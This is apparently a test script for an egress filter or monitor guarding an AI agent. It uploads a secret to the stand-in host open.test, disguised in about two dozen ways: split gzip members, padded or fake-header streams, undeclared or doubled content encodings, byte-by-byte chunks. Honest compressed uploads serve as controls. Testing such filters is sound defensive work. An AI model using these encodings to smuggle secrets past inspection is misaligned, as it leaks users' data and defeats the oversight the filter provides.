"""The agent packs what it may not send so that a reader behind us sees it and we might not.

usage: attack_packed.py SECRET
"""
import gzip, os, random, re, socket, ssl, sys, time, zlib
from concurrent.futures import ThreadPoolExecutor

SECRET = sys.argv[1].encode()
HALF = len(SECRET) // 2
TEXT = b" ".join(random.choice((b"alpha", b"beta", b"%d" % i)) for i in range(60000))


def report(name, fine, why=""):
    os.write(1, (f"ok {name}\n" if fine else f"not ok {name}: {why}\n").encode(errors="replace"))


def members(*parts):
    return [gzip.compress(p) for p in parts]


def deflated(body):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(body) + c.flush()


def filled(n):
    """A gzip stream of exactly n octets."""
    c = zlib.compressobj(0, zlib.DEFLATED, 31)
    out = c.compress(bytes(n - 23)) + c.flush()
    assert len(out) == n, len(out)
    return out


def send(pieces, coding):
    """The status of a chunked upload, piece by piece, each in a record of its own."""
    c = ssl.create_default_context()
    s = c.wrap_socket(socket.create_connection(("open.test", 443), 5), server_hostname="open.test")
    s.settimeout(10)
    s.sendall(b"POST /up HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n" + (b"Content-Encoding: " + coding + b"\r\n" if coding else b"") + b"\r\n")
    got = b""
    try:
        for p in pieces:
            time.sleep(0.05)
            s.sendall(b"%x\r\n%s\r\n" % (len(p), p))
        s.sendall(b"0\r\n\r\n")
    except OSError:
        pass
    try:
        while piece := s.recv(65536):
            got += piece
    except OSError:
        pass
    m = re.match(rb"HTTP/1\.1 (\d{3})", got)
    return m[1].decode() if m else "cut"


one, two = members(b"harmless", SECRET)
left, right = members(SECRET[:HALF], SECRET[HALF:])
cases = [
    ("plain", [SECRET], None, False), ("a gzip body", [two], b"gzip", False), ("gzip that is not declared", [two], None, False), ("two members", [one + two], b"gzip", False), ("two members, a record each", [one, two], b"gzip", False), ("the same, not declared", [one, two], None, False),
    ("halves in two members", [left + right], b"gzip", False), ("halves, a record each", [left, right], b"gzip", False), ("halves, not declared", [left + right], None, False), ("halves, a record each, not declared", [left, right], None, False), ("a member that ends with a step", [filled(1024) + two], b"gzip", False),
    ("the same, not declared", [filled(1024) + two], None, False), ("a member that ends with a piece", [filled(16384), two], b"gzip", False), ("garbage behind a member", [one + b"xx" + two], b"gzip", False), ("garbage in a record behind it", [one, b"xx" + two], b"gzip", False), ("eight false beginnings", [b"\x1f\x8b\x08\xff" * 8 + two], None, False),
    ("a hundred false beginnings", [b"\x1f\x8b\x08\xff" * 100 + two], None, False), ("deflate", [zlib.compress(SECRET)], b"deflate", False), ("bare deflate", [deflated(SECRET)], b"deflate", False), ("something behind deflate", [zlib.compress(b"x"), zlib.compress(SECRET)], b"deflate", False), ("declared twice", [gzip.compress(two)], b"gzip, gzip", False),
    ("an unknown coding", [two], b"x-lzma", False), ("identity and gzip", [two], b"identity, gzip", False), ("octet by octet", [bytes([c]) for c in two], b"gzip", False), ("the secret octet by octet", [bytes([c]) for c in SECRET], None, False),
    ("honest: a gzip body", [gzip.compress(TEXT)], b"gzip", True), ("honest: blocks of gzip", [b"".join(gzip.compress(TEXT[i : i + 16000]) for i in range(0, len(TEXT), 16000))], None, True), ("honest: small blocks", [b"".join(gzip.compress(TEXT[i : i + 1000]) for i in range(0, len(TEXT), 1000))], None, True), ("honest: blocks, declared", [gzip.compress(TEXT[:5000]), gzip.compress(TEXT[5000:9000])], b"gzip", True),
    ("honest: an archive of gzip files", [b"".join((b"f%d.gz" % i).ljust(512, b"\0") + gzip.compress(TEXT[i : i + 3000]) for i in range(0, len(TEXT), 3000))], None, True), ("honest: random octets", [os.urandom(500000)], None, True), ("honest: text", [TEXT], None, True), ("honest: deflate", [zlib.compress(TEXT)], b"deflate", True),
]


def one_case(case):
    name, pieces, coding, fine = case
    status = send(pieces, coding)
    report(f"packed: {name}", (status == "200") == fine, status)


with ThreadPoolExecutor(8) as pool:
    list(pool.map(one_case, cases))
